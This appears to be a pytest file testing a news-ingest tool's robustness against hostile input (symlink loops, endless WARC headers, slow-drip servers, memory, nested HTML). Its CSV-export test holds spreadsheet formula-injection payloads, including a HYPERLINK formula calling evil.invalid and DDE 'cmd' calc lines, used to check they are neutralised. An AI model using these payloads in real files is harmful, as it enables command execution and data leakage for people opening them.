"""Hostile and awkward input (issue 11, points 7-10 and 16-19): hangs, memory, honest problem lines.

Every server here listens on 127.0.0.1 only. Names and places are invented.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
from typer.testing import CliRunner

from forcewatch.cli import app
from forcewatch.errors import Problem
from forcewatch.ingest import read_sources
from forcewatch.ingest.sources import MAX_BYTES, expand_paths
from forcewatch.model import Article

REPO = Path(__file__).resolve().parents[1]
EXAMPLES = REPO / "examples" / "corpus"
runner = CliRunner()

BODY = (
    "A man died after he was shot by police officers in Marrowby on Saturday night, the force said.\n\n"
    "Officers from Northshire Police were called to a house in Pellow Street at about 21:40 after reports of a man"
    " armed with a knife. The Independent Office for Police Conduct is investigating and appealed for witnesses."
)


def _read(paths: list[str]) -> tuple[list[Article], list[Problem]]:
    items = list(read_sources(paths))
    return [i for i in items if isinstance(i, Article)], [i for i in items if isinstance(i, Problem)]


# --- 18: one problem, one line; MiB; symlink loops and unreadable folders ----------------------


def test_problem_lines_do_not_wrap_when_stderr_is_a_file(tmp_path):
    deep = tmp_path / ("a-folder-with-a-long-name-" * 4) / ("and-another-long-one-" * 3)
    deep.mkdir(parents=True)
    empty = deep / "report-of-the-northshire-inquiry-into-the-marrowby-pursuit.txt"
    empty.write_text("")
    with open(tmp_path / "stderr.txt", "w") as errfile:
        done = subprocess.run(
            [sys.executable, "-m", "forcewatch.cli", "ingest", str(empty), "--db", str(tmp_path / "x.db")],
            stderr=errfile,
            stdout=subprocess.PIPE,
            env={**os.environ, "PYTHONPATH": str(REPO), "COLUMNS": "80"},
            timeout=120,
        )
    assert done.returncode == 2
    lines = (tmp_path / "stderr.txt").read_text().splitlines()
    problem = [line for line in lines if "FW001" in line]
    assert len(problem) == 1, lines
    assert str(empty) in problem[0] and len(problem[0]) > 200


def test_too_large_file_speaks_mib_like_its_limit(tmp_path):
    big = tmp_path / "big.txt"
    with open(big, "wb") as out:
        out.truncate(21 * 2**20)  # sparse: 21 MiB of NULs without writing them
    _, problems = _read([str(big)])
    assert MAX_BYTES == 20 * 2**20
    assert [p.code for p in problems] == ["FW004"]
    assert problems[0].detail == "21.0 MiB, the limit is 20 MiB"


def test_symlink_loops_are_named_not_skipped(tmp_path):
    top = tmp_path / "corpus"
    (top / "inner").mkdir(parents=True)
    (top / "inner" / "report.txt").write_text(BODY)
    (top / "inner" / "back-up").symlink_to(top, target_is_directory=True)  # a folder loop
    (top / "ping.txt").symlink_to(top / "pong.txt")  # a file loop
    (top / "pong.txt").symlink_to(top / "ping.txt")
    (top / "gone.txt").symlink_to(top / "never-there.txt")
    items = list(expand_paths([str(top)]))
    files = [i for i in items if isinstance(i, str)]
    problems = {Path(p.source).name: p for p in items if isinstance(p, Problem)}
    assert files == [str(top / "inner" / "report.txt")]
    assert set(problems) == {"back-up", "ping.txt", "pong.txt", "gone.txt"}
    assert all(p.code == "FW007" for p in problems.values())
    assert "symlink loop" in problems["back-up"].detail and str(top) in problems["back-up"].detail
    assert "symlink loop" in problems["ping.txt"].detail
    assert "broken symlink" in problems["gone.txt"].detail


def test_unreadable_folder_is_named(tmp_path):
    top = Path(tempfile.mkdtemp(dir="/tmp"))  # not under pytest's 0700 tree: the lesser user must reach it
    try:
        os.chmod(top, 0o755)
        (top / "open").mkdir()
        (top / "open" / "report.txt").write_text(BODY)
        os.chmod(top / "open" / "report.txt", 0o644)
        (top / "locked").mkdir()
        (top / "locked" / "hidden.txt").write_text(BODY)
        os.chmod(top / "locked", 0)
        if os.geteuid() == 0:  # root reads anything: list the folder as nobody, as a real user would
            os.seteuid(65534)
            try:
                items = list(expand_paths([str(top)]))
            finally:
                os.seteuid(0)
        else:
            items = list(expand_paths([str(top)]))
    finally:
        os.chmod(top / "locked", 0o755)
        shutil.rmtree(top)
    assert [i for i in items if isinstance(i, str)] == [str(top / "open" / "report.txt")]
    problems = [i for i in items if isinstance(i, Problem)]
    assert [(p.source, p.code) for p in problems] == [(str(top / "locked"), "FW007")]
    assert "folder unreadable" in problems[0].detail and "Permission denied" in problems[0].detail


# --- 19: CLI CSV exports neutralise formula cells --------------------------------------------


@pytest.fixture(scope="module")
def example_db(tmp_path_factory):
    db = str(tmp_path_factory.mktemp("db") / "fw.db")
    result = runner.invoke(app, ["ingest", str(EXAMPLES), "--db", db, "--ingested-on", "2026-11-23"])
    assert result.exit_code == 0, result.output
    return db


FORMULAS = {
    "subject_name": '=HYPERLINK("http://evil.invalid/?x="&A1,"Ashby")',
    "region": "+cmd|' /C calc'!A0",
    "locality": "@SUM(1+1)*cmd|' /C calc'!A0",
    "agency": "-2+3+cmd|' /C calc'!A0",
}


def test_cli_csv_exports_neutralise_formula_cells(example_db, tmp_path):
    from forcewatch.store.db import Store

    store = Store(example_db)
    for field, value in FORMULAS.items():
        store.review(1, field, value, "tester", "a hostile value")
    out = tmp_path / "csv.csv"
    result = runner.invoke(app, ["export", "--db", example_db, "--format", "csv", "-o", str(out)])
    assert result.exit_code == 0, result.output
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(out.read_text()))}
    for field, value in FORMULAS.items():
        assert rows["1"][field] == "'" + value, ("csv", field)
    # The wapo format keeps only US shootings (incident 1 is not one): its row builder, through the
    # same helper the CLI writes with, on incident 1's record.
    from forcewatch import formats
    from forcewatch.csvsafe import safe_row
    from forcewatch.store.queries import export_record, incident_data

    wapo = safe_row(formats.wapo_row(export_record(incident_data(store, 1))))
    for field, column in {"subject_name": "name", "locality": "city"}.items():  # agency_ids are codes only
        assert str(wapo[column]).startswith("'"), (field, wapo[column])
    # numbers stay numbers: a negative longitude is no formula (only text is prefixed)
    from forcewatch.csvsafe import safe_cell

    assert safe_cell(-1.78) == -1.78 and safe_cell("Marrowby") == "Marrowby"


# --- 7: WARC header lines and record headers are capped -------------------------------------


def _gzip_member(data: bytes) -> bytes:
    import gzip

    return gzip.compress(data, compresslevel=9)


def _good_record() -> bytes:
    from tests.test_ingest_warc import build_warc

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "good.warc.gz"
        build_warc(path, compress=True)
        return path.read_bytes()


@pytest.mark.parametrize(
    ("name", "header"),
    [
        ("endless-line", b"WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: http://x.invalid/" + b"a" * 60_000_000),
        ("endless-headers", b"WARC/1.0\r\nWARC-Type: response\r\n" + b"X-Pad: 0123456789\r\n" * 200_000),
    ],
)
def test_warc_header_caps(tmp_path, name, header):
    """A few hundred KB of gzip whose headers never end: refused in seconds with FW004, earlier records kept."""
    import time
    import tracemalloc

    good = _good_record()
    (tmp_path / "warm.warc.gz").write_bytes(good)
    assert len(_read([str(tmp_path / "warm.warc.gz")])[0]) == 2  # imports done before measuring
    path = tmp_path / f"{name}.warc.gz"
    path.write_bytes(good + _gzip_member(header))
    assert path.stat().st_size < 1_000_000
    tracemalloc.start()
    started = time.monotonic()
    items = list(read_sources([str(path)]))
    seconds = time.monotonic() - started
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    articles = [i for i in items if isinstance(i, Article)]
    problems = [i for i in items if isinstance(i, Problem)]
    assert len(articles) == 2  # the good records before the bad one
    assert problems[-1].code == "FW004" and problems[-1].source == str(path)
    assert "header" in problems[-1].detail
    assert seconds < 20 and peak < 50 * 2**20, (seconds, peak)


# --- 8: a wall-clock deadline per fetch, even when headers come one byte at a time ----------


class _Dripper:
    """A raw HTTP server on 127.0.0.1: /drip* sends its status line, then headers one byte per 0.1 s
    (for 40 s, far past any deadline); /robots.txt is a 404; other paths get an RSS feed or a page."""

    def __init__(self) -> None:
        import socketserver
        import threading

        from tests.http_fixture import ARTICLE_HTML, rss

        self.feed = rss([("item-1", "/news/article.html", "Man dies after restraint", "Thu, 14 Mar 2024 09:30:00 GMT")])
        self.article = ARTICLE_HTML
        outer = self

        class Handler(socketserver.StreamRequestHandler):
            def handle(self) -> None:
                import time

                request = self.rfile.readline().decode("latin-1")
                while self.rfile.readline() not in (b"\r\n", b"\n", b""):
                    pass
                path = request.split(" ")[1] if " " in request else "/"
                try:
                    if path.startswith("/drip"):
                        self.wfile.write(b"HTTP/1.1 200 OK\r\n")
                        for byte in b"X-Pad: " + b"a" * 400:
                            self.wfile.write(bytes([byte]))
                            self.wfile.flush()
                            time.sleep(0.1)
                        return
                    if path == "/robots.txt":
                        status, kind, body = "404 Not Found", "text/plain", b"none"
                    elif path.endswith(".xml"):
                        status, kind, body = "200 OK", "application/rss+xml", outer.feed.encode()
                    else:
                        status, kind, body = "200 OK", "text/html; charset=utf-8", outer.article.encode()
                    head = f"HTTP/1.1 {status}\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\n"
                    self.wfile.write(head.encode() + b"Connection: close\r\n\r\n" + body)
                except (BrokenPipeError, ConnectionResetError):  # the client gave up: as it should
                    pass

        self.server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.base = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def dripper():
    server = _Dripper()
    yield server
    server.close()


def test_ingest_url_gives_up_at_the_deadline_on_a_dripping_server(dripper):
    import time

    from forcewatch.errors import IngestError
    from forcewatch.ingest.web import Fetcher, fetch_article

    with Fetcher(deadline=2.0, read_timeout=5.0) as fetcher:
        started = time.monotonic()
        with pytest.raises(IngestError) as caught:
            fetch_article(dripper.base + "/drip/story.html", fetcher)
        seconds = time.monotonic() - started
        assert caught.value.code == "FW009" and "deadline" in caught.value.detail
        assert 1.5 < seconds < 4, seconds
        # the same client still reads a well-behaved page afterwards
        assert fetch_article(dripper.base + "/news/article.html", fetcher).title


def test_watch_one_dripping_feed_does_not_stop_the_others(dripper):
    import time

    from forcewatch.ingest.feeds import watch
    from forcewatch.ingest.web import Fetcher, fetch_article

    states: dict[str, str] = {}
    problems: list[Problem] = []
    read: list[str] = []
    with Fetcher(deadline=2.0, read_timeout=5.0) as fetcher:
        started = time.monotonic()
        count = watch(
            [dripper.base + "/drip/feed.xml", dripper.base + "/good/feed.xml"],
            states.get,
            states.__setitem__,
            lambda url: read.append(fetch_article(url, fetcher).title or ""),
            rounds=1,
            fetcher=fetcher,
            on_problem=problems.append,
        )
        seconds = time.monotonic() - started
    assert count == 1 and len(read) == 1
    assert [(p.source, p.code) for p in problems] == [(dripper.base + "/drip/feed.xml", "FW009")]
    assert "deadline" in problems[0].detail
    assert seconds < 6, seconds


# --- 9: ingest streams in bounded chunks: peak memory flat in input size -------------------

_PEAK = """
import resource, sys
try:
    import forcewatch.ingest.stream as stream
    stream.CHUNK_BYTES = 2**20  # 1 MiB chunks: the inputs below are 4 and 30 MB
except ImportError:  # before ingest streamed: the test must still run, and fail
    pass
from forcewatch.cli import app
try:
    app(["ingest", sys.argv[1], "--db", sys.argv[2]])
except SystemExit as exit:
    assert not exit.code, exit.code
print("PEAK", resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024, file=sys.stderr)
"""


def _show_day(path: Path, n: int, size: int = 200_000) -> None:
    import json

    para = (
        "The flower show in Marrowby opened on Saturday with record crowds, and the judges praised the roses,"
        " the sweet peas and the dahlias grown by volunteers from the village allotments. "
    )
    with open(path, "w") as out:
        for i in range(n):
            out.write(json.dumps({"text": f"Entry {i}. " + para * (size // len(para)), "title": f"Show {i}"}) + "\n")


def test_ingest_peak_memory_is_flat_in_input_size(tmp_path):
    """4 MB and 30 MB of JSONL: the larger input may not raise the peak by more than a few MB
    (it raised it by about its own size when every new article was held before analysis)."""
    peaks = {}
    for n in (20, 150):
        _show_day(tmp_path / f"{n}.jsonl", n)
        done = subprocess.run(
            [sys.executable, "-c", _PEAK, str(tmp_path / f"{n}.jsonl"), str(tmp_path / f"{n}.db")],
            capture_output=True,
            text=True,
            env={**os.environ, "PYTHONPATH": str(REPO)},
            timeout=300,
        )
        assert f"{n} stored" in done.stdout, done.stdout + done.stderr
        peaks[n] = int(done.stderr.split("PEAK")[1].split()[0])
    growth = peaks[150] - peaks[20]
    input_growth = (tmp_path / "150.jsonl").stat().st_size - (tmp_path / "20.jsonl").stat().st_size
    assert growth < 10 * 2**20, (growth, input_growth)


def test_chunks_are_bounded_by_count_and_bytes():
    from forcewatch.ingest.stream import ReadCounts, fresh_chunks

    articles = [Article.from_text(f"{i} " + "x" * 1000) for i in range(10)]
    counts = ReadCounts()
    pulled: list[int] = []

    def source():
        for i, a in enumerate(articles):
            pulled.append(i)
            yield a

    chunks = fresh_chunks(source(), lambda _id: False, counts, lambda *_: None, max_articles=4, max_bytes=2500)
    first = next(chunks)
    assert len(first) == 3 and pulled == [0, 1, 2]  # 3 x 1002 chars pass 2500: nothing more was read
    assert [len(c) for c in chunks] == [3, 3, 1]


# --- 16: mojibake and stray cp1252 bytes are repaired, the article kept, the repair said -------


def test_stray_cp1252_bytes_and_mojibake_are_repaired_and_noted(tmp_path):
    from forcewatch.errors import Notice

    utf8 = BODY.replace("the force said", "the force\u2019s spokeswoman said \u201cit was tragic\u201d").encode()
    stray = utf8.replace("\u2019".encode(), b"\x92", 1)  # a cp1252 apostrophe pasted into UTF-8
    stray = stray.replace(b"Pellow", "P\u00e9llow".encode())  # and real UTF-8 beside it
    (tmp_path / "stray.txt").write_bytes(stray)
    double = BODY.replace("the force said", "the force\u2019s spokeswoman said").encode().decode("cp1252")
    (tmp_path / "double.txt").write_text(double, encoding="utf-8")  # â€™: UTF-8 decoded as cp1252
    (tmp_path / "lines.jsonl").write_bytes(b'{"text": "' + stray.replace(b"\n", b"\\n").replace(b'"', b'\\"') + b'"}\n')
    items = list(read_sources([str(tmp_path)]))
    articles = {Path(a.path).name: a for a in items if isinstance(a, Article)}
    notices = {Path(n.source).name: n for n in items if isinstance(n, Notice)}
    assert set(articles) == {"stray.txt", "double.txt", "lines.jsonl:1"}
    assert "force\u2019s spokeswoman" in articles["stray.txt"].body and "P\u00e9llow" in articles["stray.txt"].body
    assert (
        "force\u2019s spokeswoman" in articles["double.txt"].body and "\u00e2\u20ac" not in articles["double.txt"].body
    )
    assert articles["lines.jsonl:1"].body == articles["stray.txt"].body
    assert all(n.code == "FW012" for n in notices.values()) and set(notices) == set(articles)
    assert "1 byte not UTF-8, read as cp1252" in notices["stray.txt"].detail
    assert "mojibake repaired" in notices["double.txt"].detail
    assert not [i for i in items if isinstance(i, Problem) and not isinstance(i, Notice)]
    # through the CLI: stored, exit 0, one note line each
    result = runner.invoke(app, ["ingest", str(tmp_path / "stray.txt"), "--db", str(tmp_path / "x.db")])
    assert result.exit_code == 0, result.output
    assert "1 stored" in result.output


def test_clean_text_is_untouched(tmp_path):
    """Curly quotes, ligatures and entities in correct text stay as written (ids and offsets depend on it)."""
    text = "\u201cIt was ﬁne,\u201d said Ashby &amp; Voss \u2014 caf\u00e9 owners. " + BODY
    (tmp_path / "clean.txt").write_text(text, encoding="utf-8")
    articles, problems = _read([str(tmp_path / "clean.txt")])
    assert not problems and articles[0].body == text


# --- 17: deeply nested HTML and link-heavy pages ---------------------------------------------

REPORT_HTML = "".join(f"<p>{para}</p>" for para in BODY.split("\n\n"))


def _page(inside: str, before: str = "", after: str = "") -> str:
    return (
        "<html><head><title>Man shot by police in Marrowby</title></head><body>"
        f"{before}<article><h1>Man shot by police in Marrowby</h1>{inside}</article>{after}</body></html>"
    )


def test_report_inside_100000_nested_divs_is_read(tmp_path):
    from forcewatch.errors import Notice

    (tmp_path / "deep.html").write_text(_page(REPORT_HTML, "<div>" * 100_000, "</div>" * 100_000))
    items = list(read_sources([str(tmp_path / "deep.html")]))
    articles = [i for i in items if isinstance(i, Article)]
    assert len(articles) == 1 and "Pellow Street at about 21:40" in articles[0].body
    notes = [i for i in items if isinstance(i, Notice)]
    assert len(notes) == 1 and "nested 100,00" in notes[0].detail


def test_deep_html_without_a_report_says_why(tmp_path):
    (tmp_path / "empty.html").write_text("<html><body>" + "<div>" * 5000 + "</div>" * 5000 + "</body></html>")
    _, problems = _read([str(tmp_path / "empty.html")])
    assert [p.code for p in problems] == ["FW006"] and "nested 5,00" in problems[0].detail


def test_report_next_to_100000_links_is_read_quickly(tmp_path):
    import time

    links = "".join(f'<li><a href="/tag/{i}">Brackley {i} Ashby</a></li>' for i in range(100_000))
    (tmp_path / "links.html").write_text(_page(REPORT_HTML, after=f"<ul>{links}</ul>"))
    _read([str(EXAMPLES / "hexham_flower_show.txt")])  # imports before the clock starts
    started = time.monotonic()
    articles, problems = _read([str(tmp_path / "links.html")])
    seconds = time.monotonic() - started
    assert len(articles) == 1 and "Pellow Street" in articles[0].body and "Brackley 7" not in articles[0].body
    assert [p.code for p in problems] == ["FW012"] and "100,000 of its 100,000 links" in problems[0].detail
    assert seconds < 20, seconds


def test_link_text_does_not_decide_the_language(tmp_path):
    tags = " ".join(f'<a href="/t/{i}">Voss-{i} Brackley Northshire Marrowby</a>' for i in range(400))
    (tmp_path / "tags.html").write_text(_page(f"<p>Tags: {tags}</p>" + REPORT_HTML))
    articles, problems = _read([str(tmp_path / "tags.html")])
    assert not problems and len(articles) == 1 and "Pellow Street" in articles[0].body
